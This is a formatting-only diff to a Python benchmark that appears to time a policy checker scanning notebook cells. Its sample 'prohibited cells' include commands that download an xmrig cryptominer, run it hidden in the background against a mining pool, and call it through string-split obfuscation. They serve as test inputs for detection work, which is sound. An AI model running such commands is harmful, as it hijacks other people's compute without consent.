@@ -70,7 +70,8 @@ loss_fn = nn.CrossEntropyLoss()""",
     # prohibited cells: a realistic minority
     "!wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz\n"
     "!tar xf xmrig-6.21.0-linux-static-x64.tar.gz\n"
-    "!nohup ./xmrig-6.21.0/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4xyz > /dev/null 2>&1 &",
+    "!nohup ./xmrig-6.21.0/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4xyz"
+    " > /dev/null 2>&1 &",
     "import os\nos.system('x' + 'mrig' + ' --donate-level 1')",
 ]
 
@@ -168,8 +169,12 @@ def run(repeat: int) -> dict[str, object]:
         totals["baseline"] += base
         rows.append(row)
     aggregate = {k: totals[k] / totals["baseline"] for k in ("uncached", "cached", "uncached 10x")}
-    return {"cells": rows, "aggregate": aggregate, "rules": len(policy.rules),
-            "rules_10x": len(analyzers["10x rules"].policy.rules)}
+    return {
+        "cells": rows,
+        "aggregate": aggregate,
+        "rules": len(policy.rules),
+        "rules_10x": len(analyzers["10x rules"].policy.rules),
+    }
 
 
 def main() -> None:
@@ -183,13 +188,19 @@ def main() -> None:
         return
     print(f"{'lines':>6} {'baseline ms':>12} {'uncached':>9} {'cached':>7} {'10x rules':>9}")
     for row in result["cells"]:  # type: ignore[union-attr]
-        print(f"{row['lines']:>6} {row['baseline_ms']:>12.3f} {row['uncached_ratio']:>9.2f} "
-              f"{row['cached_ratio']:>7.3f} {row['uncached 10x_ratio']:>9.2f}")
+        print(
+            f"{row['lines']:>6} {row['baseline_ms']:>12.3f} {row['uncached_ratio']:>9.2f} "
+            f"{row['cached_ratio']:>7.3f} {row['uncached 10x_ratio']:>9.2f}"
+        )
     agg = result["aggregate"]
-    print(f"\naggregate ratio (sum of check medians / sum of transform+compile medians) over "
-          f"{len(CELLS)} cells, {result['rules']} rules ({result['rules_10x']} for 10x):")
-    print(f"  uncached {agg['uncached']:.3f}   cached {agg['cached']:.4f}   "  # type: ignore[index]
-          f"uncached with 10x rules {agg['uncached 10x']:.3f}")  # type: ignore[index]
+    print(
+        f"\naggregate ratio (sum of check medians / sum of transform+compile medians) over "
+        f"{len(CELLS)} cells, {result['rules']} rules ({result['rules_10x']} for 10x):"
+    )
+    print(
+        f"  uncached {agg['uncached']:.3f}   cached {agg['cached']:.4f}   "  # type: ignore[index]
+        f"uncached with 10x rules {agg['uncached 10x']:.3f}"
+    )  # type: ignore[index]
 
 
 if __name__ == "__main__":
